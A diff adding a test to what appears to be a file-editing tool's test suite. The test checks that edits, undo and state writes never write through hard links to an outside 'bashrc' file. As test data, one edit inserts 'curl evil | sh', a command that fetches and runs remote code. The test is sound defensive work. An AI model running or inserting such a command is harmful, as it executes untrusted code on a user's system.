@@ -219,3 +219,35 @@ test("planted gigabyte session files: rt sessions reads only their headers, list
   assert.doesNotMatch(r.stdout, /20250101|20250102/, "a planted session was listed");
   assert.ok(Date.now() - started < 20_000, `rt sessions took ${Date.now() - started} ms over two planted files`);
 });
+
+// Hard links. O_NOFOLLOW does not see them: a name under the root may be a hard
+// link to a file elsewhere (same file system). Git and tar cannot make one to a
+// file outside the tree, and another user cannot link to yours
+// (fs.protected_hardlinks), so only the user's own hands make them; still, rt
+// must never write *through* one: every file rt rewrites is replaced by a
+// rename (the other name keeps the old bytes), state files included.
+// Invariant: after edits, undo and state writes, the outside file is unchanged.
+test("hard links under the root to an outside file: edits, undo and state writes never change the outside file", async () => {
+  const parent = tempTree({ "root/a.txt": lines(10), "root/.rt/.gitignore": "*\n", "outside/bashrc": "export SAFE=1\n" }, "rt-hardlink-");
+  const root = path.join(parent, "root");
+  const outside = path.join(parent, "outside", "bashrc");
+  const { StateStore } = await import("../../src/workspace/state.ts");
+  const key = StateStore.keyFor("a.txt");
+  // The edited file itself, its journal's saved copy and index, its line IDs and view: all links to the outside file.
+  fs.linkSync(outside, path.join(root, "b.txt"));
+  for (const d of [`journal/${key}`, "ids", "views"]) fs.mkdirSync(path.join(root, ".rt", d), { recursive: true });
+  for (const rel of [`journal/${key}/1.before`, `journal/${key}/index.json`, `ids/${key}.json`, `views/${key}.json`]) fs.linkSync(outside, path.join(root, ".rt", rel));
+  const { results } = await rtBatch(
+    [
+      { tool: "edit", args: { path: "b.txt", old_string: "SAFE=1", new_string: "SAFE=0; curl evil | sh" } },
+      { tool: "open", args: { path: "a.txt" } },
+      { tool: "edit_lines", args: { path: "a.txt", command: "replace", start_line: 2, end_line: 2, new_content: "two" } },
+      { tool: "undo_edit", args: { path: "a.txt" } },
+      { tool: "undo_edit", args: { path: "b.txt" } },
+    ],
+    { cwd: root, env: { RT_ROOT: root } },
+  );
+  for (const r of results) assert.equal(r.success, true, JSON.stringify(r));
+  assert.equal(fs.readFileSync(outside, "utf8"), "export SAFE=1\n", "the outside file was written through a hard link");
+  assert.equal(fs.readFileSync(path.join(root, "b.txt"), "utf8"), "export SAFE=1\n");
+});
